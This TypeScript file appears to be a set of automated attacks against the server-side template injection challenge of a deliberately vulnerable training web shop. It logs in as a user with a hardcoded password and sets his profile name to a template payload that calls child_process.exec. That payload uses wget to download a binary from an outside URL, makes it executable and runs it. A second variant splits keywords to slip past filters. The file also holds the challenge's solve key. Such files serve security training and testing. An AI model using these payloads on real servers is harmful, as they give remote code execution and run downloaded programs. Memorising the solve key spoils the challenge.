import type { Attack, Tools } from '#lab'

const MALWARE = 'https://github.com/juice-shop/juicy-malware/raw/master/juicy_malware_linux_amd_64'
const COMMAND = `wget -O malware ${MALWARE} && chmod +x malware && ./malware`
const CALL_HOME = '/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'

/** Takes this name as Jim and opens his page, which runs it; then the program calls home. */
async function takeName({ logIn, http, settings, expect }: Tools, username: string): Promise<void> {
  const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
  const headers = { cookie: `token=${token}`, 'content-type': 'application/x-www-form-urlencoded' }
  const renamed = await http.post('/profile', `username=${encodeURIComponent(username)}`, { headers })
  expect(renamed.status === 302, `the name was answered with ${renamed.status}`)
  const page = await http.get('/profile', { headers: { cookie: `token=${token}` } })
  expect(page.status === 200, `the page answered with ${page.status}`)
  const call = await http.get(CALL_HOME)
  expect(call.status === 204, 'nobody waits for the program to call home')
}

export const attacks: Attack[] = [
  {
    challenge: 'sstiChallenge',
    name: 'a name that fetches a program and runs it',
    run: (tools) =>
      takeName(tools, `#{global.process.mainModule.require('child_process').exec('${COMMAND}')}`),
  },
  {
    challenge: 'sstiChallenge',
    name: 'the same behind an honest word, in words that nobody forbids',
    run: (tools) =>
      takeName(
        tools,
        `Jim #{/*#{/**/globalThis['pro'+'cess'].mainModule['req'+'uire']('child'+'_pro'+'cess').exec('${COMMAND}')}`,
      ),
  },
]
